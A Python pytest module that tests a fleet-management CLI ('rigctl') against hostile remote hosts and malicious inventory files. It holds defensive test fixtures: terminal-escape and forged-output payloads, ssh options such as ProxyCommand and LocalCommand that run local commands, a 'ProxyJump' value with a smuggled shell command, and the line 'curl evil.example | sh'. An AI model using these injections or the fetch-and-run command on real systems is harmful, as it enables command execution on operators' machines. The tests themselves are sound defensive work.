"""A hostile or compromised remote host, and an inventory that is code.

The hosts here are answered by a stand-in ``ssh`` program put first on PATH: it records its argv and
stdin, then runs the remote command line in a local ``sh`` with HOME and PATH of that host's own
directory, where a stand-in ``rigctl`` prints the answer a test chose (and exits with its status). No
sshd is needed; tests/security/test_remote_output.py covers the real ssh hop. The ssh-option tests run
the real ``ssh`` client against a closed port on 127.0.0.1: a ProxyCommand runs before any connection.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from rigctl.errors import InvalidInputError, UsageError
from rigctl.exitcodes import ExitCode
from rigctl.fleet.host_doctor import host_doctor
from rigctl.fleet.host_status import host_status
from rigctl.fleet.inventory import Host
from rigctl.fleet.limit import choose
from rigctl.fleet.loader import load_inventory
from rigctl.fleet.pool import run_fleet
from rigctl.fleet.ssh import Captured
from rigctl.host import unitdirs
from rigctl.util.proc import Completed

pytestmark = pytest.mark.timeout(120)

STANDIN_SSH = f"""#!{sys.executable}
import json, os, sys
root = os.environ["STANDIN_HOSTS"]
args = sys.argv[1:]
with open(os.path.join(root, "argv"), "a") as f:
    f.write(json.dumps(args) + "\\n")
if "--" not in args:
    sys.exit(0)
dest, command = args[args.index("--") + 1:][:2]
with open(os.path.join(root, "stdin"), "a") as f:
    f.write(sys.stdin.read())
home = os.path.join(root, dest)
os.execve("/bin/sh", ["sh", "-c", command], {{"HOME": home, "PATH": home + "/bin:/usr/bin:/bin"}})
"""


def envelope(command: str, ok: bool, **extra: Any) -> str:
    return json.dumps({"rigctl": "1", "command": command, "ok": ok, **extra})


class Fleet:
    """Hosts h1 and h2 (or ``names``), each answered by its stand-in rigctl."""

    def __init__(self, root: Path, names: tuple[str, ...] = ("h1", "h2")) -> None:
        self.root = root
        (root / "bin").mkdir()
        ssh = root / "bin" / "ssh"
        ssh.write_text(STANDIN_SSH)
        ssh.chmod(0o755)
        self.inventory = root / "hosts.yaml"
        self.inventory.write_text("hosts:\n" + "".join(f"  - {{name: {n}, ssh: {n}}}\n" for n in names))

    def answer(self, host: str, stdout: str, rc: int = 0, *, script: str | None = None) -> None:
        home = self.root / host
        (home / "bin").mkdir(parents=True, exist_ok=True)
        (home / "answer").write_text(stdout)
        program = home / "bin" / "rigctl"
        program.write_text(script or f'#!/bin/sh\ncat "$HOME/answer"\nexit {rc}\n')
        program.chmod(0o755)

    def rigctl(self, *args: str, stdin: bytes = b"") -> subprocess.CompletedProcess[bytes]:
        env = {**os.environ, "PATH": f"{self.root / 'bin'}:{os.environ['PATH']}", "STANDIN_HOSTS": str(self.root),
               "XDG_RUNTIME_DIR": str(self.root)}
        return subprocess.run([sys.executable, "-m", "rigctl", *args], input=stdin, capture_output=True,
                              env=env, timeout=90, check=False)


@pytest.fixture
def fleet(tmp_path: Path) -> Fleet:
    return Fleet(tmp_path)


def strict(stdout: bytes) -> dict[str, Any]:
    """rigctl's JSON, read strictly: NaN, Infinity and -Infinity are not JSON."""
    def refuse(name: str) -> None:
        raise ValueError(f"{name} in rigctl's JSON")

    doc = json.loads(stdout, parse_constant=refuse)
    assert isinstance(doc, dict)
    return doc


def nested(depth: int) -> Any:
    value: Any = "bottom"
    for _ in range(depth):
        value = {"x": [value]}
    return value


# --- a value nested 500 deep, or a number JSON cannot carry: that host's failure, never exit 70 ---------


@pytest.mark.parametrize(("command", "extra"), [("preflight", ["r1"]), ("swap", ["r1", "r2"])])
@pytest.mark.parametrize("poison", ["deep", "inf", "big-int"])
def test_one_hosts_poisoned_answer_fails_that_host_only(
    fleet: Fleet, command: str, extra: list[str], poison: str
) -> None:
    fleet.answer("h1", envelope(command, True, outcome="swapped" if command == "swap" else None))
    bad = {"deep": envelope(command, True, detail=nested(250)),  # 500 levels of objects and arrays
           "inf": envelope(command, True).replace("}", ', "n": 1e999}'),
           "big-int": envelope(command, True).replace("}", ', "n": 1' + "0" * 400 + "}")}[poison]
    fleet.answer("h2", bad)
    done = fleet.rigctl("fleet", command, *extra, "--hosts", str(fleet.inventory), "--json")
    assert b"Traceback" not in done.stderr, done.stderr.decode()
    assert done.returncode == ExitCode.CHECKS_FAILED, done.stderr.decode()
    doc = strict(done.stdout)
    h1, h2 = doc["hosts"]
    assert h1["ok"] is True  # the good host's result (a swap that ran) is kept
    assert h2["ok"] is False
    assert "past what rigctl accepts" in h2["error"] or "out of range" in h2["error"]
    text = fleet.rigctl("fleet", command, *extra, "--hosts", str(fleet.inventory))
    assert text.returncode == ExitCode.CHECKS_FAILED
    assert b"== h1" in text.stdout


@pytest.mark.parametrize("poison", ["deep", "inf"])
def test_host_json_refuses_a_poisoned_answer_cleanly(fleet: Fleet, poison: str) -> None:
    bad = envelope("status", True, detail=nested(250)) if poison == "deep" else \
        envelope("status", True).replace("}", ', "n": -1e999}')
    fleet.answer("h2", bad)
    done = fleet.rigctl("--hosts", str(fleet.inventory), "--host", "h2", "status", "--json")
    assert b"Traceback" not in done.stderr
    assert done.returncode == ExitCode.INVALID_INPUT
    doc = strict(done.stdout)
    assert doc["error"]["code"] == "remote-answer"


# --- what the answer lists decides, not its ok ----------------------------------------------------------


FAIL_CHECK = {"id": "gpu-memory", "severity": "fail", "message": "not enough"}


def test_preflight_ok_true_over_a_failing_check_is_a_failure(fleet: Fleet) -> None:
    fleet.answer("h1", envelope("preflight", True, checks=[FAIL_CHECK]))
    fleet.answer("h2", envelope("preflight", True, checks=[{**FAIL_CHECK, "severity": "info"}]))
    done = fleet.rigctl("fleet", "preflight", "r1", "--hosts", str(fleet.inventory), "--json")
    assert done.returncode == ExitCode.CHECKS_FAILED
    h1, h2 = strict(done.stdout)["hosts"]
    assert h1["ok"] is False
    assert any("answered ok but lists 1 failing check" in s for s in h1["summary"])
    assert h2["ok"] is True


# Issue #31 item 7: only a severity rigctl knows to pass passes; `error`, one it does not know, or none
# at all under ok:true is a failing check (before: only "fail" and "warn" were looked at).
NOT_PASSING = ["error", "critical", "FAIL", "", None, 3, ["fail"], "missing"]


@pytest.mark.parametrize("command", ["preflight", "swap"])
@pytest.mark.parametrize("severity", NOT_PASSING, ids=repr)
def test_ok_true_over_a_check_not_known_to_pass_is_a_failure(fleet: Fleet, command: str, severity: Any) -> None:
    check = {"id": "gpu-memory", "message": "m"} if severity == "missing" else {**FAIL_CHECK, "severity": severity}
    fleet.answer("h1", envelope(command, True, checks=[check]))
    passing = [{**FAIL_CHECK, "id": f"c-{s}", "severity": s} for s in ("ok", "info", "skip", "warn")]
    fleet.answer("h2", envelope(command, True, findings=passing))
    extra = ["r1"] if command == "preflight" else ["r1", "r2"]
    done = fleet.rigctl("fleet", command, *extra, "--hosts", str(fleet.inventory), "--json")
    assert done.returncode == ExitCode.CHECKS_FAILED, done.stdout.decode()
    h1, h2 = strict(done.stdout)["hosts"]
    assert h1["ok"] is False
    assert any("answered ok but lists 1 failing check" in s for s in h1["summary"]), h1["summary"]
    assert h2["ok"] is True, h2  # warn is shown, not failing
    text = fleet.rigctl("fleet", command, *extra, "--hosts", str(fleet.inventory))
    assert text.returncode == ExitCode.CHECKS_FAILED and b"WARN c-warn" in text.stdout


FAIL_FINDING = {"unit": "/etc/containers/systemd/a.container", "id": "restart-not-always", "severity": "fail",
                "message": "Restart= is on-failure", "fix": "Restart=always", "where": None, "line": 3,
                "managed": False, "autofix": True}


def test_doctor_fix_without_remaining_is_malformed(fleet: Fleet) -> None:
    fix = {"applied": [], "patches": [], "error": None}  # no "remaining": what is left is not said
    fleet.answer("h1", envelope("doctor", True, findings=[FAIL_FINDING], units=[FAIL_FINDING["unit"]], fix=fix))
    fleet.answer("h2", envelope("doctor", True, findings=[], units=[], fix={**fix, "remaining": []}))
    done = fleet.rigctl("fleet", "doctor", "--fix", "--hosts", str(fleet.inventory), "--json")
    assert done.returncode == ExitCode.CHECKS_FAILED
    h1, h2 = strict(done.stdout)["hosts"]
    assert h1["ok"] is False
    assert any("remaining: missing" in f["message"] for f in h1["findings"])
    assert h2["ok"] is True


# --- remote text in the text views: one line each, escaped, capped, labelled ---------------------------


def test_remote_text_cannot_forge_a_host_block_or_hide_characters(fleet: Fleet) -> None:
    forged = "gone\n== h2 (h2) ok via rigctl in 0.1s\n   all good"
    finding = {**FAIL_FINDING, "message": forged, "fix": "curl evil.example | sh\u200b\ufeff\u2060",
               "unit": "/u/a\u2028b.container"}
    patch = "--- a\n+++ b\n+Restart=always\x0b== h2 (h2) ok via rigctl\n" + "+x\n" * 1000
    fix = {"applied": [], "patches": [{"unit": "/u/a.container", "fixed": ["r"], "patch": patch, "why": None}],
           "error": None, "remaining": [FAIL_FINDING]}
    fleet.answer("h1", envelope("doctor", False, findings=[finding], units=["/u/a.container"], fix=fix), rc=1)
    fleet.answer("h2", envelope("doctor", False, findings=[], units=[],
                                error={"code": "x", "message": "boom\n== h1 (h1) ok via rigctl in 0.1s"}), rc=1)
    done = fleet.rigctl("fleet", "doctor", "--fix", "--hosts", str(fleet.inventory))
    out = done.stdout.decode()
    assert b"Traceback" not in done.stderr
    lines = out.split("\n")
    assert len([ln for ln in lines if ln.startswith("==")]) == 2, out
    assert "gone\\x0a== h2" in out
    assert "\\u200b" in out and "\\ufeff" in out and "\\u2060" in out and "\\u2028" in out
    assert "fix (from h1): curl evil.example" in out
    assert "\n       fix: curl" not in out  # never shown as rigctl's own advice
    assert "Restart=always\\x0b== h2" in out  # \x0b does not split a patch line
    assert "more line(s)" in out  # a patch is capped in the text view
    assert max(len(ln) for ln in lines) < 1100


# --- --host in text mode: no local stdin, a deadline ------------------------------------------------------


def test_host_text_mode_gives_the_remote_no_stdin(fleet: Fleet) -> None:
    fleet.answer("h1", "fine\n", script='#!/bin/sh\ncat > "$HOME/got"; echo fine\n')
    done = fleet.rigctl("--hosts", str(fleet.inventory), "--host", "h1", "status", stdin=b"LOCAL-SECRET\n")
    assert done.returncode == 0, done.stderr
    assert b"LOCAL-SECRET" not in (fleet.root / "stdin").read_bytes()
    assert (fleet.root / "h1" / "got").read_bytes() == b""
    argv = [json.loads(line) for line in (fleet.root / "argv").read_text().splitlines()]
    assert "-n" in argv[-1]


def test_host_text_mode_has_a_deadline(fleet: Fleet, monkeypatch: pytest.MonkeyPatch) -> None:
    from rigctl.errors import HostUnreachableError
    from rigctl.fleet.answer import stream_remote_rigctl
    from rigctl.fleet.ssh import OpenSsh

    fleet.answer("h1", "", script="#!/bin/sh\nexec sleep 60\n")
    monkeypatch.setenv("PATH", f"{fleet.root / 'bin'}:{os.environ['PATH']}")
    monkeypatch.setenv("STANDIN_HOSTS", str(fleet.root))
    host = load_inventory(fleet.inventory).get("h1")
    with pytest.raises(HostUnreachableError, match="timed out after 1s"):
        stream_remote_rigctl(host, ["status"], out=lambda _: None, err=lambda _: None,
                             transport=OpenSsh(fleet.root), timeout=1)


# --- fleet status --------------------------------------------------------------------------------------


class Answers:
    """A Transport whose answer is made from the command's own boundary (a status or doctor script)."""

    def __init__(self, make: Any, *, cut: bool = False) -> None:
        self.make, self.cut = make, cut

    def run(self, host: Host, command: str, *, timeout: float) -> Completed:
        boundary = command.split("'", 2)[1].split(" ", 1)[0]
        return Captured(("ssh",), 0, self.make(boundary), "", cut=self.cut)


def _status(b: str, units: str = "") -> str:
    podman = json.dumps([{"Names": ["llm"], "Image": "i", "State": "running", "Status": "Up",
                          "Labels": {"rigctl.managed": "true"}}])
    return (f"{b} host\nbox1\n{b} podman\n{podman}\nrc=0\n{b} units\n{units}\n{b} gpus\n{b} end\n")


def test_status_cut_at_its_size_limit_is_a_failure() -> None:
    result = host_status(Host(name="h1", ssh="h1"), Answers(_status, cut=True), 30)
    assert result.ok is False
    assert "cut off" in (result.error or "")


def test_status_reports_rigctl_units_as_rows_and_a_failed_one_fails_the_host() -> None:
    units = ("llm.service loaded failed failed llm serving\n"
             "user podman-auto-update.service loaded inactive dead Podman auto-update")
    result = host_status(Host(name="h1", ssh="h1"), Answers(lambda b: _status(b, units)), 30)
    assert result.ok is False
    rows = {r["unit"]: r for r in result.data["unit_rows"]}
    assert rows["llm.service"] == {"unit": "llm.service", "scope": "system", "load": "loaded", "active": "failed",
                                   "sub": "failed", "description": "llm serving", "rigctl": True}
    assert rows["podman-auto-update.service"]["scope"] == "user"
    assert rows["podman-auto-update.service"]["rigctl"] is False
    assert any("1 serving unit(s) not running" in s for s in result.summary)
    healthy = host_status(Host(name="h1", ssh="h1"), Answers(
        lambda b: _status(b, "llm.service loaded active running llm serving")), 30)
    assert healthy.ok is True


# --- fleet doctor on a host without rigctl ----------------------------------------------------------------

PIN = "docker.io/x/y@sha256:" + "0" * 64
BAD_UNIT = f"[Container]\nImage={PIN}\n[Service]\nRestart=no\n"


def _snapshot(b: str, files: dict[str, str]) -> str:
    head = [f"{b} via ssh", f"{b} meta home", "/home/u", f"{b} meta uid", "1000"]
    body = [line for path, text in files.items() for line in (f"{b} file {path}", text)]
    return "\n".join([*head, *body, f"{b} end", ""])


NO_RIGCTL = Host(name="h1", ssh="h1", rigctl="rigctl-not-installed-here")


@pytest.mark.parametrize("path", ["/home/u/.config/containers/systemd/../../../../etc/evil.container",
                                  "/home/u/.config/containers/systemd/./x.container",
                                  "/home/u/.config/containers/systemd/a/../x.container"])
def test_a_shipped_path_that_leaves_its_root_is_refused(path: str) -> None:
    result = host_doctor(NO_RIGCTL, Answers(lambda b: _snapshot(b, {path: BAD_UNIT})), 30, fix=True)
    assert result.ok is False
    assert path not in result.data["units"]
    assert not result.data["fix"]["patches"]  # never patched as if it were under its root
    assert any(f["id"] == "remote-malformed-answer" and "leave their directory" in f["message"]
               for f in result.findings)


def test_a_snapshot_of_too_many_files_is_not_taken() -> None:
    files = {f"/home/u/.config/containers/systemd/u{i}.container": BAD_UNIT for i in range(5001)}
    result = host_doctor(NO_RIGCTL, Answers(lambda b: _snapshot(b, files)), 30)
    assert result.ok is False
    assert "more than 5000" in (result.error or "")


def test_drop_in_lookup_does_not_rescan_every_file_per_unit(monkeypatch: pytest.MonkeyPatch) -> None:
    """Work counted, not timed: the paths unitdirs takes apart. Rescanning every shipped file for each
    unit took apart about 2 x units x files of them (640,000 here); looked up by name, a few per file."""
    made = [0]

    class Counted(unitdirs.PurePosixPath):
        def __new__(cls, *args: Any) -> Counted:
            made[0] += 1
            return super().__new__(cls, *args)

    monkeypatch.setattr(unitdirs, "PurePosixPath", Counted)
    base = "/home/u/.config/containers/systemd"
    files = {f"{base}/u{i}.container": BAD_UNIT for i in range(400)}
    files.update({f"{base}/u{i}.container.d/10.conf": "[Service]\nRestart=always\n" for i in range(400)})
    result = host_doctor(NO_RIGCTL, Answers(lambda b: _snapshot(b, files)), 30)
    assert len(result.data["units"]) == 400
    assert result.findings == []  # each drop-in still applies to its unit
    assert made[0] < 20 * len(files), made[0]


# --- --limit @FILE ---------------------------------------------------------------------------------------


def test_limit_file_errors_name_the_line_not_the_content(tmp_path: Path) -> None:
    secret = tmp_path / "shadow"
    secret.write_text("# comment\nbox1\nroot:$6$SECRETHASH:19000:0:99999:7:::\n")
    with pytest.raises(UsageError) as caught:
        choose(f"@{secret}", {"box1": []}, [])
    assert f"@{secret} line 3" in caught.value.message
    assert "SECRETHASH" not in caught.value.message + (caught.value.fix or "")
    secret.write_text("nosuchhost\n")
    with pytest.raises(UsageError) as caught:
        choose(f"@{secret}", {"box1": []}, [])
    assert "nosuchhost" not in caught.value.message and "line 1" in caught.value.message


# --- an inventory is code -------------------------------------------------------------------------------


def _write(where: Path, name: str, text: str) -> Path:
    path = where / name
    path.write_text(text)
    return path


def _rigctl_here(*args: str, cwd: Path) -> subprocess.CompletedProcess[bytes]:
    env = {**os.environ, "XDG_RUNTIME_DIR": str(cwd)}
    return subprocess.run([sys.executable, "-m", "rigctl", *args], capture_output=True, env=env, timeout=90,
                          check=False, cwd=cwd)


def _inventories(tmp_path: Path, marker: Path) -> list[tuple[str, Path, str]]:
    touch = f"touch {marker}"
    yaml_host = "hosts:\n  - name: evil\n    ssh: 127.0.0.1\n    port: 1\n    ssh_options: {{{opt}}}\n"
    return [
        ("ProxyCommand", _write(tmp_path, "a.yaml", yaml_host.format(opt=f"ProxyCommand: '{touch}'")),
         "ProxyCommand"),
        ("lower case", _write(tmp_path, "b.yaml", yaml_host.format(opt=f"proxycommand: '{touch}'")), "proxycommand"),
        ("defaults", _write(tmp_path, "c.yaml", "defaults:\n  ssh_options: {KnownHostsCommand: '" + touch +
                            "'}\nhosts:\n  - {name: evil, ssh: 127.0.0.1, port: 1}\n"), "KnownHostsCommand"),
        ("ansible -oProxyCommand=", _write(tmp_path, "d.ini", "evil ansible_host=127.0.0.1 ansible_port=1 "
                                           f"ansible_ssh_common_args='-oProxyCommand=\"{touch}\"'\n"), "ProxyCommand"),
        ("ansible -o ProxyCommand ...", _write(tmp_path, "e.ini", "evil ansible_host=127.0.0.1 ansible_port=1 "
                                               f"ansible_ssh_extra_args='-o \"ProxyCommand {touch}\"'\n"),
         "ProxyCommand"),
        ("LocalCommand", _write(tmp_path, "f.yaml", yaml_host.format(
            opt=f"PermitLocalCommand: 'yes', LocalCommand: '{touch}'")), "LocalCommand"),
    ]


@pytest.mark.parametrize("case", range(6))
def test_ssh_options_that_run_local_commands_need_the_operators_opt_in(tmp_path: Path, case: int) -> None:
    marker = tmp_path / "pwned"
    name, inventory, option = _inventories(tmp_path, marker)[case]
    for args in (["fleet", "status", "--hosts", str(inventory), "--json"],
                 ["--hosts", str(inventory), "--host", "evil", "status", "--json"],
                 ["--hosts", str(inventory), "--host", "evil", "status"]):
        done = _rigctl_here(*args, cwd=tmp_path)
        assert not marker.exists(), (name, args)
        assert done.returncode == ExitCode.INVALID_INPUT, (name, args, done.stderr)
        said = (done.stdout + done.stderr).decode()
        assert "host evil" in said and option in said and "--allow-ssh-options" in said, said
    with pytest.raises(InvalidInputError):
        load_inventory(inventory).select()
    # the operator's word lets it run: the same inventory, as code
    _rigctl_here("fleet", "status", "--hosts", str(inventory), "--allow-ssh-commands", "--timeout", "20",
                 cwd=tmp_path)
    if option.lower() == "proxycommand":  # LocalCommand and KnownHostsCommand run only once connected
        assert marker.exists(), name
    marker.unlink(missing_ok=True)
    _rigctl_here("--hosts", str(inventory), "--allow-ssh-commands", "--host", "evil", "status", "--json",
                 cwd=tmp_path)
    assert marker.exists() or option.lower() != "proxycommand"


@pytest.mark.parametrize("options", ["{Match: 'exec \"touch x\"'}", "{Include: /tmp/other_config}",
                                     "{ProxyJump: 'x;touch pwned'}"])
def test_config_directives_and_shell_in_a_jump_host_are_refused(tmp_path: Path, options: str) -> None:
    inventory = _write(tmp_path, "h.yaml", f"hosts:\n  - name: evil\n    ssh: box\n    ssh_options: {options}\n")
    with pytest.raises(InvalidInputError):
        load_inventory(inventory)


def test_proxyjump_to_a_host_of_the_inventory_needs_no_opt_in(tmp_path: Path) -> None:
    inventory = _write(tmp_path, "j.yaml", "hosts:\n  - {name: ok, ssh: box, ssh_options: {ProxyJump: 'ops@jump:22'}}\n"
                                           "  - {name: jump, ssh: 10.0.0.7}\n")
    (host,) = load_inventory(inventory).select(names=["ok"])
    assert host.ssh_options == {"ProxyJump": "ops@jump:22"}


def test_run_fleet_refuses_a_command_option_it_was_handed(tmp_path: Path) -> None:
    host = Host(name="evil", ssh="127.0.0.1", port=1, ssh_options={"ProxyCommand": f"touch {tmp_path / 'p'}"})
    result = run_fleet("status", [host], timeout=10)
    assert result.hosts[0].ok is False
    assert "--allow-ssh-options" in (result.hosts[0].error or "")
    assert not (tmp_path / "p").exists()


# --- issue #31 item 6: one hostile host among three, through the real CLI ----------------------------------
#
# The middle host answers each poison; every host's outcome is printed (text) or listed (JSON), nothing
# raw reaches the terminal, and the exit status is the fleet's verdict. Before: a lone surrogate made the
# text views exit 70, and in a swap the third host's outcome (its swap had run) was never printed.

LONE = "\ud800"
RAW_BYTES = (b"\x1b", b"\x07", b"\xc2\x9b", b"\xed\xa0\x80")  # ESC, BEL, C1 CSI, a surrogate as UTF-8


def _three(tmp_path: Path) -> Fleet:
    return Fleet(tmp_path, ("h1", "h2", "h3"))


def _swap_answer(poison: str) -> tuple[str, int]:
    """The middle host's answer to `rigctl swap r1 r2 --json`, and its exit status."""
    said = {"surrogate": LONE + "-\udfff",  # two lone ones: side by side, JSON would read a pair
            "escapes": "\x1b]0;owned\x07\x9b2J\x1b[31m\u202e",
            "huge": "x" * 1_000_000}
    if poison in said:
        text = said[poison]
        steps = [{"step": f"stop{text}", "ok": True, "message": text}] * (1 if poison != "huge" else 2)
        return envelope("swap", True, outcome=f"swapped{text}", steps=steps, to={"recipe": text}), 0
    if poison == "garbage":
        return "\x00\xff{not json\x1b[2J", 0
    severity = {"error-severity": "error", "unknown-severity": "catastrophic"}[poison]
    return envelope("swap", True, outcome="swapped", checks=[{**FAIL_CHECK, "severity": severity}]), 0


SWAP_POISONS = ["surrogate", "escapes", "huge", "garbage", "error-severity", "unknown-severity"]
FAILS = {"garbage", "error-severity", "unknown-severity"}


@pytest.mark.parametrize("poison", SWAP_POISONS)
def test_fleet_swap_prints_every_hosts_outcome_whatever_one_answers(tmp_path: Path, poison: str) -> None:
    fleet = _three(tmp_path)
    for name in ("h1", "h3"):
        fleet.answer(name, envelope("swap", True, outcome="swapped", steps=[{"step": "start", "ok": True,
                                                                             "message": "up"}]))
    stdout, rc = _swap_answer(poison)
    fleet.answer("h2", stdout, rc)
    expected = ExitCode.CHECKS_FAILED if poison in FAILS else ExitCode.OK
    text = fleet.rigctl("fleet", "swap", "r1", "r2", "--hosts", str(fleet.inventory))
    out = text.stdout
    assert b"Traceback" not in text.stderr, text.stderr.decode(errors="replace")
    assert text.returncode == expected, (text.stdout[-2000:], text.stderr[-2000:])
    assert not any(raw in out for raw in RAW_BYTES), out[:3000]
    blocks = [ln for ln in out.decode().split("\n") if ln.startswith("== ")]
    assert [b.split()[1] for b in blocks] == ["h1", "h2", "h3"], out.decode()[:3000]
    h3 = out.decode().split("== h3", 1)[1]
    assert "swap r1 r2: swapped (exit 0)" in h3 and "ok   start: up" in h3  # the third host's outcome
    assert len(out) < 200_000  # a 1 MB value is cut in the text view
    as_json = fleet.rigctl("fleet", "swap", "r1", "r2", "--hosts", str(fleet.inventory), "--json")
    assert as_json.returncode == expected
    doc = strict(as_json.stdout)
    assert [h["name"] for h in doc["hosts"]] == ["h1", "h2", "h3"]
    assert [h["ok"] for h in doc["hosts"]] == [True, poison not in FAILS, True]


def _status_host(fleet: Fleet, name: str, poison: str | None) -> None:
    """Stand-ins for what fleet status reads on a host: hostname, podman, systemctl, nvidia-smi, and its
    rigctl's own `status --json`, each answering ``poison`` (None: a healthy host)."""
    home = fleet.root / name
    bins = home / "bin"
    bins.mkdir(parents=True, exist_ok=True)
    bad = {None: "", "surrogate": LONE, "escapes": "\x1b]0;owned\x07\x9b2J", "huge": "y" * 2_000_000}[poison]
    podman = json.dumps([{"Names": [f"llm{bad}"], "Image": f"img{bad}", "State": "running", "Status": f"Up{bad}",
                          "Labels": {"rigctl.managed": "true"}}])
    rigctl = envelope("status", True, deployments=[{"name": f"llm{bad}", "verdict": f"serving{bad}"}])
    # what a program prints as bytes: a lone surrogate cannot be bytes, so its JSON escape stands in
    files = {"hostname": f"box{bad}\n", "podman": podman + "\n",
             "systemctl": f"llm.service loaded active running llm {bad}\n", "nvidia-smi": f"0, H200{bad}, 1, 2\n",
             "rigctl": rigctl + "\n"}
    for program, answer in files.items():
        (home / f"{program}.out").write_text(answer, errors="surrogateescape" if poison != "surrogate" else
                                             "backslashreplace")
        script = bins / program
        script.write_text(f'#!/bin/sh\ncat "$HOME/{program}.out"\n')
        script.chmod(0o755)


@pytest.mark.parametrize("poison", ["surrogate", "escapes", "huge"])
def test_fleet_status_prints_every_host_whatever_one_answers(tmp_path: Path, poison: str) -> None:
    fleet = _three(tmp_path)
    for name in ("h1", "h2", "h3"):
        _status_host(fleet, name, poison if name == "h2" else None)
    text = fleet.rigctl("fleet", "status", "--hosts", str(fleet.inventory))
    assert b"Traceback" not in text.stderr, text.stderr.decode(errors="replace")
    assert text.returncode != ExitCode.INTERNAL, text.stderr.decode(errors="replace")
    assert not any(raw in text.stdout for raw in RAW_BYTES), text.stdout[:3000]
    blocks = [ln for ln in text.stdout.decode().split("\n") if ln.startswith("== ")]
    assert [b.split()[1] for b in blocks] == ["h1", "h2", "h3"], text.stdout.decode()[:3000]
    as_json = fleet.rigctl("fleet", "status", "--hosts", str(fleet.inventory), "--json")
    assert as_json.returncode == text.returncode
    assert [h["name"] for h in strict(as_json.stdout)["hosts"]] == ["h1", "h2", "h3"]


def _doctor_finding(poison: str) -> dict[str, Any]:
    bad = {"surrogate": LONE, "escapes": "\x1b]0;owned\x07\x9b2J", "huge": "z" * 2_000_000,
           "unknown-severity": "", "error-severity": ""}[poison]
    severity = {"unknown-severity": "catastrophic", "error-severity": "error"}.get(poison, "fail")
    return {**FAIL_FINDING, "unit": f"/u/a{bad}.container", "id": f"restart{bad}", "message": f"m{bad}",
            "fix": f"f{bad}", "where": f"/u/a{bad}.container.d/x.conf", "severity": severity}


@pytest.mark.parametrize("poison", ["surrogate", "escapes", "huge", "unknown-severity", "error-severity"])
def test_fleet_doctor_prints_every_host_whatever_one_answers(tmp_path: Path, poison: str) -> None:
    fleet = _three(tmp_path)
    clean = envelope("doctor", True, findings=[], units=[])
    fleet.answer("h1", clean)
    fleet.answer("h3", clean)
    finding = _doctor_finding(poison)
    # ok:true over it: the findings decide
    fleet.answer("h2", envelope("doctor", True, findings=[finding], units=[finding["unit"]]))
    text = fleet.rigctl("fleet", "doctor", "--hosts", str(fleet.inventory))
    assert b"Traceback" not in text.stderr, text.stderr.decode(errors="replace")
    assert text.returncode == ExitCode.CHECKS_FAILED, (text.stdout[-2000:], text.stderr[-2000:])
    assert not any(raw in text.stdout for raw in RAW_BYTES), text.stdout[:3000]
    blocks = [ln for ln in text.stdout.decode().split("\n") if ln.startswith("== ")]
    assert [b.split()[1] for b in blocks] == ["h1", "h2", "h3"], text.stdout.decode()[:3000]
    assert "== h3 (h3) ok" in text.stdout.decode()
    as_json = fleet.rigctl("fleet", "doctor", "--hosts", str(fleet.inventory), "--json")
    assert as_json.returncode == ExitCode.CHECKS_FAILED
    assert [h["ok"] for h in strict(as_json.stdout)["hosts"]] == [True, False, True]


def test_one_hosts_view_that_fails_costs_only_that_host(monkeypatch: pytest.MonkeyPatch) -> None:
    """Whatever goes wrong in one host's block (a value no model foresaw), the others are printed."""
    import io

    from rigctl.cli.views import fleet as fleet_view
    from rigctl.fleet.result import FleetResult, HostResult

    hosts = [HostResult(f"h{i}", f"h{i}", ok=True, summary=[f"swap r1 r2: swapped {i}"]) for i in (1, 2, 3)]
    hosts[1].findings = [{"unit": "u", "id": "x", "severity": "fail", "message": object()}]  # not a finding
    out = io.StringIO()
    fleet_view(FleetResult("doctor", hosts, 1.0))(out)
    text = out.getvalue()
    assert "swapped 3" in text and "== h3" in text
    assert "h2's result could not be shown" in text
